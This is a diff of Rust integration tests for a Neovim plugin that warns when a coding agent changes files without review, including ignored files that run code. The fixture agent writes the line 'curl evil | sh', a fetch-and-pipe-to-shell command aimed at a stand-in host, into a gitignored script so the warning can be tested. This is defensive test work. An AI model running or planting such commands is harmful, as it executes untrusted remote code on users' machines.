@@ -8,12 +8,13 @@ use pi_ide_testkit::nvim::Options;
 
 /// A stand-in agent: it reads prompts and, at "write", writes `a.txt` asking nothing, once the
 /// file `$GO` exists (a real agent asks its model first); at "now", the moment it reads the
-/// line; at "ignored", ignored files (under `node_modules/`, `.gitignore`d scripts); at "task", `b.txt`, then asks and spins (as a TUI does) until answered, then `c.txt`.
+/// line; at "spin", dots until `$GO` exists (at work, until the user interrupts it); at "ignored", ignored files (under `node_modules/`, `.gitignore`d scripts); at "task", `b.txt`, then asks and spins (as a TUI does) until answered, then `c.txt`.
 const AGENT: &str = concat!(
     "while read l; do case \"$l\" in ",
     "write) until [ -e \"$GO\" ]; do sleep 0.05; done; echo changed > a.txt;; ",
     "now) echo changed > a.txt;; ",
-    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua;; ",
+    "spin) (until [ -e \"$GO\" ]; do printf .; sleep 0.1; done) & ;; ",
+    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua; echo 'x' > x.zsh; echo 'y' > y.bash;; ",
     "task) echo half > b.txt; echo 'Proceed? [y/n]'; (while :; do printf .; sleep 0.1; done) & s=$!; read a; kill $s; echo rest > c.txt;; ",
     "esac; echo \"done:$l\"; done"
 );
@@ -186,7 +187,7 @@ fn prompt_then(nvim: &Nvim, line: &str, shown: &str) {
 #[test]
 fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_the_turns_check() {
     let nvim = neovim(0);
-    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\n").unwrap();
+    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\nx.zsh\ny.bash\n").unwrap();
     std::fs::create_dir_all(nvim.cwd.join("node_modules/pkg")).unwrap();
     std::fs::write(nvim.cwd.join("node_modules/pkg/index.js"), "ok()\n").unwrap();
     std::fs::write(nvim.cwd.join("local.sh"), "echo hi\n").unwrap();
@@ -196,10 +197,11 @@ fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_t
     nvim.wait_for("#_G.started == 2", PATIENCE);
     nvim.wait_for("require('pi-ide').status():find('changed without review') ~= nil", PATIENCE);
     let status = nvim.lua("return require('pi-ide').status()").as_str().unwrap().to_string();
-    assert!(status.contains("3 files changed without review (3 not undoable: .envrc, .nvim.lua, local.sh) and 1 ignored file"), "{status}");
-    // :PiIde changes lists the three; the undo leaves them (nothing of them was recorded).
+    // The first three named, the warning one line.
+    assert!(status.contains("5 files changed without review (5 not undoable: .envrc, .nvim.lua, local.sh +2 more) and 1 ignored file"), "{status}");
+    // :PiIde changes lists the five; the undo leaves them (nothing of them was recorded).
     nvim.command("PiIde changes").unwrap();
-    nvim.wait_for("#vim.fn.getqflist() == 3", PATIENCE);
+    nvim.wait_for("#vim.fn.getqflist() == 5", PATIENCE);
 }
 
 #[test]
@@ -219,4 +221,24 @@ fn an_enter_in_its_terminal_while_a_review_of_the_agent_waits_is_an_answer() {
     nvim.command("PiIde checkpoint").unwrap();
     nvim.wait_for("#_G.started == 3", PATIENCE);
     assert_eq!(nvim.lua("return _G.started[3].agent"), json!("checkpoint"));
+}
+
+#[test]
+fn a_prompt_typed_after_interrupting_the_agent_with_esc_begins_a_turn() {
+    let nvim = neovim(0);
+    nvim.command("PiIde open pi").unwrap();
+    prompt_then(&nvim, "spin", "..........");
+    nvim.wait_for("#_G.started == 1", PATIENCE);
+    // At work (dots flowing): the user interrupts it (the agent stops), then sends a new prompt.
+    type_keys(&nvim, "<Esc>");
+    let go = nvim.lua("return vim.env.GO").as_str().unwrap().to_string();
+    std::fs::write(go, "").unwrap();
+    type_prompt(&nvim, "next");
+    wait_until("the agent to read the prompt", PATIENCE, || {
+        nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), '\\n')").as_str().unwrap_or_default().matches("done:").count() == 2
+    });
+    // The prompt began the second turn; the user's checkpoint is the third.
+    nvim.command("PiIde checkpoint").unwrap();
+    nvim.wait_for("_G.started[#_G.started].agent == 'checkpoint'", PATIENCE);
+    assert_eq!(nvim.lua("return vim.tbl_map(function(s) return s.agent end, _G.started)"), json!(["pi", "pi", "checkpoint"]));
 }
